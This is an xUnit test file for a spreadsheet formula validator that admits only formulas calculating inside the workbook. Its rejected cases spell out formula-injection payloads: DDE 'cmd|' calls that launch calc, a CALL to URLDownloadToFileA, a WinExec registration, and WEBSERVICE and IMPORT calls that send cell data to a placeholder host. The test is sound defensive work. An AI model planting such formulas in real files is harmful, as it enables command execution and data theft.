using SertiKesos.Workbooks.Outside;

namespace SertiKesos.Tests.Workbooks;

public sealed class InsideFormulaTests
{
    private static readonly InsideFormulas Formulas = new(
        new HashSet<string>(StringComparer.OrdinalIgnoreCase) { "Data", "Rekap 2026", "Mu'min", @"C:\[x.xlsx]S", "cmd|" },
        new HashSet<string>(StringComparer.OrdinalIgnoreCase) { "tblOrang" },
        new HashSet<string>(StringComparer.OrdinalIgnoreCase) { "JumlahAktif" });

    [Theory]
    [InlineData("SUM(A1:A20)")]
    [InlineData("$B$3*1.5E+3-.5%")]
    [InlineData("IF(Data!C2=\"=cmd|'/c calc'!A1\",\"ya \"\"benar\"\"\",'Rekap 2026'!$D$4)")]
    [InlineData("'Mu''min'!A1&data!B2")]
    [InlineData("COUNTIF($C:$C,C2)+SUM($3:$7)+SUM(4:5)")]
    [InlineData("_xlfn.XLOOKUP(A1,tblOrang[NIK],tblOrang[[#This Row],[Nama]:[Nama Lengkap]],\"\")")]
    [InlineData("_xlfn._xlws.FILTER(A1:B9,JumlahAktif>0)")]
    [InlineData("IFERROR(VLOOKUP(A1,#REF!,2,FALSE),#N/A)")]
    [InlineData("SUM({1,2;3,4})")]
    [InlineData("_xlfn.LET(_xlpm.x,A1,_xlpm.x+1)")]
    [InlineData("N(\"SertiKesos\")=0")]
    [InlineData("")]
    public void What_only_calculates_inside_the_workbook_passes(string formula) => Assert.True(Formulas.Has(formula));

    [Theory]
    [InlineData("cmd|'/c calc'!A1")]
    [InlineData("'cmd|'!A1")]
    [InlineData("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")]
    [InlineData("WEBSERVICE(\"http://contoh.invalid/?\"&A1)")]
    [InlineData("_xlfn.WEBSERVICE(\"http://contoh.invalid\")")]
    [InlineData("HYPERLINK(\"http://contoh.invalid\",\"Klik\")")]
    [InlineData("IF(TRUE,HYPERLINK(\"\\\\server\\share\"),1)")]
    [InlineData("_xlfn.FILTERXML(\"<a/>\",\"//b\")")]
    [InlineData("RTD(\"prog.id\",\"server\",\"topik\")")]
    [InlineData("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)")]
    [InlineData("REGISTER.ID(\"kernel32\",\"WinExec\")")]
    [InlineData("DDE(\"soffice\";\"x.ods\";\"A1\")")]
    [InlineData("IMPORTXML(\"http://contoh.invalid\",\"//a\")")]
    [InlineData("IMPORTDATA(\"http://contoh.invalid\")")]
    [InlineData("_xlfn.IMAGE(\"http://contoh.invalid/x.png\")")]
    [InlineData("INDIRECT(\"'file:///c:/x.ods'#$S.A1\")")]
    [InlineData("[1]Sheet!A1")]
    [InlineData("SUM('[1]Sheet'!A1:A3)")]
    [InlineData("'C:\\[x.xlsx]S'!A1")]
    [InlineData("'\\\\server\\share\\[x.xlsx]S'!A1")]
    [InlineData("Buku.xlsx!Nama")]
    [InlineData("TidakDikenal+1")]
    [InlineData("LembarLain!A1")]
    [InlineData("tblLain[NIK]")]
    [InlineData("tblOrang[NIK")]
    [InlineData("\"tidak ditutup")]
    [InlineData("_xlfn.LAMBDA(_xlpm.x,_xlpm.x)(1)")]
    [InlineData("_xlpm.f(1)")]
    [InlineData("CUBEVALUE(\"koneksi\",A1)")]
    public void Everything_else_does_not(string formula) => Assert.False(Formulas.Has(formula));
}
